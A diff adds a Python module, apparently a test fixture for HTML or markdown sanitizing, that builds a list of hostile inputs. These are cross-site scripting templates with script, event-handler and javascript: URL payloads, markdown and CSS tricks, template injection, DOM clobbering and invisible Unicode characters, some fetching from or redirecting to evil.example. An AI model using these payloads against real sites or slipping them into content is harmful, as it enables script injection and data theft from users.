@@ -1,0 +1,56 @@
+"""Texts that would do harm where a page takes them for its own: markup, links, odd characters."""
+
+from __future__ import annotations
+
+_CALLS = ["alert(1)", "fetch('//evil.example')", "document.title='taken'"]
+_FORMS = [
+    "<script>{}</script>",
+    "<img src=x onerror={}>",
+    '<img src=x onerror=&#x61;lert(1) data-x="{}">',
+    "<svg onload={}>",
+    "<svg><script>{}</script></svg>",
+    "<body onload={}>",
+    '<iframe src="javascript:{}"></iframe>',
+    '<a href="javascript:{}">here</a>',
+    '<a href=" javascript:{}">here</a>',
+    "[here](javascript:{})",
+    "<details open ontoggle={}>",
+    "<video><source onerror={}></video>",
+    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
+    '<noscript><p title="</noscript><img src=x onerror={}>">',
+    '<form action="javascript:{}"><button>here</button></form>',
+    '<object data="javascript:{}"></object>',
+    '<embed src="javascript:{}">',
+    "<template><img src=x onerror={}></template>",
+    '"><script>{}</script>',
+    "'-{}-'",
+    "`${{{}}}`",
+    "</textarea><script>{}</script>",
+    "</pre><script>{}</script>",
+    "<style>@import '//evil.example/{}';</style>",
+    "<link rel=stylesheet href=//evil.example/{}>",
+    '<meta http-equiv=refresh content="0;url=//evil.example/{}">',
+    "<base href=//evil.example/{}>",
+]
+_OTHERS = [
+    "![it](https://evil.example/?secret)",
+    "![it](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)",
+    "<img src=https://evil.example/x.png>",
+    '<p style="background:url(https://evil.example/x)">x</p>',
+    "<input autofocus onfocus=alert(1)>",
+    "\u202e\u2066reversed",
+    "\ufeff\u200b\u0000",
+    "{{constructor.constructor('alert(1)')()}}",
+    "${alert(1)}",
+    "[a](https://example.com 'onmouseover=alert(1)')",
+    "<https://evil.example/?auto>",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
+    "```html\n<script>alert(1)</script>\n```",
+    "`<script>alert(1)</script>`",
+    "<div id=app></div>",
+    "<a id=location href=x></a>",
+    "<a name=document></a>",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+]
+HOSTILE = [form.format(call) for form in _FORMS for call in _CALLS] + _OTHERS
